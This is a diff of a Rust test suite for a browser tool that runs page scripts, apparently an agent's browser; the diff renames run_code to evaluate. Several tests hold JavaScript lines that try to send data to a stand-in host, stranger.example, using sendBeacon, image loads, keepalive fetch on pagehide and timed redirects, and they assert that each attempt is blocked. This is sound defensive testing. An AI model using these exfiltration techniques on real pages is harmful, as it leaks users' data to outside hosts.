@@ -49,13 +49,13 @@ async fn a_script_gives_its_result_or_says_why_not() {
         ("const a = {}; a.a = a; return a", "[object Object]"),
         ("return '\\ud800'", r#""\ud800""#),
     ] {
-        let outcome = run.run_code(code).await;
+        let outcome = run.evaluate(code).await;
         assert_eq!(outcome.status, ActionStatus::Ok, "{code}: {outcome:?}");
         assert_eq!(outcome.text.as_deref(), Some(text), "{code}");
     }
-    let long = run.run_code("return 'x'.repeat(1e6)").await;
+    let long = run.evaluate("return 'x'.repeat(1e6)").await;
     assert_eq!(long.text.unwrap().chars().count(), 20_001);
-    let nothing = run.run_code("document.title = 'Changed'").await;
+    let nothing = run.evaluate("document.title = 'Changed'").await;
     assert_eq!((nothing.status, nothing.text), (ActionStatus::Ok, None));
     assert_eq!(run.says("document.title").await, "Changed");
     let missing = "ReferenceError: missing is not defined";
@@ -64,14 +64,14 @@ async fn a_script_gives_its_result_or_says_why_not() {
         ("await Promise.reject('a reason')", "threw", "a reason"),
         ("return (", "could not be read", "SyntaxError"),
     ] {
-        let outcome = run.run_code(code).await;
+        let outcome = run.evaluate(code).await;
         assert_eq!(outcome.status, ActionStatus::Other, "{code}: {outcome:?}");
         assert!(outcome.detail.unwrap().contains(why), "{code}");
         assert!(outcome.text.unwrap().contains(says), "{code}");
     }
     // A message of the page is the script's effect, and the run may answer it.
     let asks = "const said = confirm('Go on?'); document.title = 'said ' + said";
-    let asked = run.run_code(asks).await;
+    let asked = run.evaluate(asks).await;
     assert!(asked.detail.unwrap().contains("Go on?"));
     assert!(run.act(answer(true)).await.status.is_ok());
     let goes_on = async || run.says("document.title").await == "said true";
@@ -82,9 +82,9 @@ async fn a_script_gives_its_result_or_says_why_not() {
         ..act_options()
     };
     for code in ["while (true) {}", "await new Promise(() => {})"] {
-        let outcome = run.run_code_within(code, &brief).await;
+        let outcome = run.evaluate_within(code, &brief).await;
         assert_eq!(outcome.status, Timeout, "{code}: {outcome:?}");
-        let next = run.run_code("return 1").await;
+        let next = run.evaluate("return 1").await;
         assert_eq!(next.text.as_deref(), Some("1"), "after {code}");
     }
 }
@@ -93,7 +93,7 @@ async fn a_script_gives_its_result_or_says_why_not() {
 async fn a_script_runs_in_the_document_that_it_was_judged_for_alone() {
     let (stage, run) = Stage::with_run(pages).await;
     let code = "document.title = 'ran'".into();
-    let action = &Action::RunCode { code };
+    let action = &Action::Evaluate { code };
     // Never judged.
     run.ends(action, FingerprintChanged).await;
     // Another document has the same address: it is another one to the guard, and to the browser.
@@ -125,7 +125,7 @@ async fn what_a_script_sends_stays_within_the_runs_sites() {
     let (stage, run) = Stage::with_run(pages).await;
     for (name, code) in &ROWS.ways {
         go(&run, HOME).await;
-        let outcome = run.run_code(&aimed(name, code)).await;
+        let outcome = run.evaluate(&aimed(name, code)).await;
         assert!(outcome.status.is_ok(), "{name}: {outcome:?}");
         stage.heard(&format!("/after-{name}")).await;
         assert_eq!(stage.strangers(), NOBODY, "{name}");
@@ -136,7 +136,7 @@ async fn what_a_script_sends_stays_within_the_runs_sites() {
     for (name, code) in &ROWS.leaves {
         go(&run, HOME).await;
         run.held_requests().await;
-        run.run_code(&aimed(&format!("leave-{name}"), code)).await;
+        run.evaluate(&aimed(&format!("leave-{name}"), code)).await;
         stage.heard(&format!("/after-leave-{name}")).await;
         assert_eq!(stage.strangers(), NOBODY, "{name}");
         assert!(run.snapshot().await.url.starts_with(HOME), "{name}");
@@ -146,9 +146,9 @@ async fn what_a_script_sends_stays_within_the_runs_sites() {
     // Within the run's sites it sends what it likes, and goes where it likes.
     go(&run, HOME).await;
     let both = "const a = await fetch('/own'); const b = await fetch('http://second.example/other'); return [a.ok, b.ok]";
-    let both = run.run_code(both).await;
+    let both = run.evaluate(both).await;
     assert_eq!(both.text.as_deref(), Some("[true,true]"));
-    run.run_code("document.body.innerHTML = '<form method=post action=/posted></form>'; document.forms[0].submit()").await;
+    run.evaluate("document.body.innerHTML = '<form method=post action=/posted></form>'; document.forms[0].submit()").await;
     stage.heard("POST home.example/posted").await;
     assert_eq!(stage.strangers(), NOBODY);
 }
@@ -163,7 +163,7 @@ async fn what_was_stopped_is_told() {
         ("location", "location.href = T"),
     ] {
         let run = stage.run().await;
-        let outcome = run.run_code(&aimed(name, code)).await;
+        let outcome = run.evaluate(&aimed(name, code)).await;
         // A way out is told when it is taken, which may be a moment after the script has ended.
         let mut told = Vec::new();
         comes(&format!("word of {name}"), async || {
@@ -206,14 +206,14 @@ async fn other_spellings_frames_and_traps_change_nothing() {
             "const T = '{to}'; new Image().src = T; fetch(T, {{mode: 'no-cors'}}).catch(() => 0); \
              navigator.sendBeacon(T); setTimeout(() => fetch('/spelled-{n}'), 100)"
         );
-        assert!(run.run_code(&code).await.status.is_ok(), "{to}");
+        assert!(run.evaluate(&code).await.status.is_ok(), "{to}");
         stage.heard(&format!("/spelled-{n}")).await;
         assert_eq!(stage.strangers(), NOBODY, "{to}");
     }
     // A page that has given its own things the names that the hold needs.
     go(&run, "http://home.example/clobbered").await;
     let code = aimed("clobbered", "new WebSocket(T.replace('http', 'ws'))");
-    let outcome = run.run_code(&code).await;
+    let outcome = run.evaluate(&code).await;
     assert!(outcome.status.is_ok(), "{outcome:?}");
     stage.heard("/after-clobbered").await;
     assert_eq!(stage.strangers(), NOBODY);
@@ -221,7 +221,7 @@ async fn other_spellings_frames_and_traps_change_nothing() {
     go(&run, HOME).await;
     let leaving = "addEventListener('pagehide', () => { navigator.sendBeacon('http://stranger.example/left', 'x'); \
                    new Image().src = 'http://stranger.example/left'; fetch('http://stranger.example/left', {keepalive: true, mode: 'no-cors'}) })";
-    assert!(run.run_code(leaving).await.status.is_ok());
+    assert!(run.evaluate(leaving).await.status.is_ok());
     go(&run, "http://home.example/next").await;
     run.says("fetch('/left-behind')").await;
     stage.heard("/left-behind").await;
@@ -234,7 +234,7 @@ async fn other_spellings_frames_and_traps_change_nothing() {
     run.snapshot().await;
     let tells =
         "frames[0].postMessage('words', '*'); setTimeout(() => fetch('/posted-to-frame'), 600)";
-    assert!(run.run_code(tells).await.status.is_ok());
+    assert!(run.evaluate(tells).await.status.is_ok());
     stage.heard("/posted-to-frame").await;
     let sent = stage.strangers();
     assert!(!sent.iter().any(|s| s.contains("/told")), "{sent:?}");
@@ -263,7 +263,7 @@ async fn nothing_of_a_script_outlives_its_run() {
         let code = format!(
             "window.left = 1; setInterval(() => {{ location.href = 'http://stranger.example/late' }}, 300); {more}"
         );
-        run.run_code(&code).await;
+        run.evaluate(&code).await;
         run.detach().await;
         // The tab is there, with the page as it is loaded anew.
         let other = stage.chromium.person().await;
@@ -299,7 +299,7 @@ async fn a_script_connects_to_no_peers() {
     let run = stage.run().await;
     for (name, code) in &ROWS.beside {
         go(&run, "http://home.example/with-frame").await;
-        let outcome = run.run_code(&beside(code, &peer)).await;
+        let outcome = run.evaluate(&beside(code, &peer)).await;
         assert_eq!(peer.came(), NOBODY, "{name}: {outcome:?}");
     }
     // The same where nothing holds them, so that each could have come.
